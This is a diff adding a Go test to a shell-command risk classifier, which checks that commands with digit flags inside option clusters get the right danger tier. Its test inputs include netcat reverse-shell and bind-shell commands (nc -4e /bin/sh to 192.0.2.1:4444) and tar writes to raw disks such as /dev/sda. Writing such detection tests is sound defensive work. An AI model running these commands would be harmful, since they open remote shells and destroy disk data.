@@ -337,3 +337,30 @@ func TestBlindSpotPreloadWrapperOptions(t *testing.T) {
 		{"proxychains", "proxychains4 -q ls", TierRead},
 	})
 }
+
+// TestBlindSpotDigitFlagsInClusters: getopt takes digits as option
+// letters (ssh and nc -4/-6, tar's -0…-9 drive numbers), so a cluster
+// holding one still ends in the option that takes a value: nc -4e runs
+// its program, tar -c0f /dev/sda writes the disk, ssh-keyscan -4f reads
+// its hosts from a file.
+func TestBlindSpotDigitFlagsInClusters(t *testing.T) {
+	p := protectedPolicy(t)
+	runBlindHosts(t, p, []blindCase{
+		{"tar -c0f device", "tar -c0f /dev/sda /srv", TierDestructive, true},
+		{"tar -c7f device", "tar -c7f /dev/sdb /srv", TierDestructive, true},
+		{"nc -4e", "nc -4e /bin/sh 192.0.2.1 4444", TierDestructive, false},
+		{"nc -6lc", "nc -6lc sh 9999", TierDestructive, false},
+		{"ncat -4e", "ncat -4e /bin/sh 192.0.2.1 4444", TierDestructive, false},
+		{"netcat -4ve", "netcat -4ve /bin/sh 192.0.2.1 4444", TierDestructive, false},
+		{"ssh-keyscan -4f", "ssh-keyscan -4f /tmp/hosts", TierMutate, false},
+		{"ssh-keyscan -4Hf", "ssh-keyscan -4Hf/tmp/hosts", TierMutate, false},
+		{"ssh-keyscan -Hf", "ssh-keyscan -Hf /tmp/hosts", TierMutate, false},
+		{"fping -qf", "fping -qf /tmp/hosts", TierMutate, false},
+		{"fping --fi=", "fping --fi=/tmp/hosts", TierMutate, false},
+	})
+	runExactHosts(t, p, []exactCase{
+		{"ping -4c", "ping -4c 1 db2", TierRead},
+		{"tar -tv0f", "tar -tv0f a.tar", TierRead},
+		{"xz -9c", "xz -9c f", TierRead},
+	})
+}
